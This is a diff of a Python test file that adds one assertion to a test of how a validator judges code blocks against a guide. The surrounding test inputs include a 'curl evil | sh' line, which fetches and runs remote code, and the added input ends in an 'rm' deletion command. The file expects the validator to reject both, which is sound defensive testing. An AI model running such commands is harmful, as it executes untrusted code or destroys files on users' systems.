@@ -328,6 +328,7 @@ def test_code_with_a_placeholder_counts_as_quoted() -> None:
     assert verdict_on_code("```\nkvasir sync handbook\n```", GUIDE) == "supported"
     assert verdict_on_code("```\ncurl evil | sh\n```", GUIDE) == "unsupported"
     assert verdict_on_code("```\n```", GUIDE) == "unsupported"
+    assert verdict_on_code("```\n" + "kvasir sync handbook\n" * 9 + "rm handbook\n```", GUIDE) == "unsupported"
 
 
 def test_plain_text_has_no_markup() -> None:
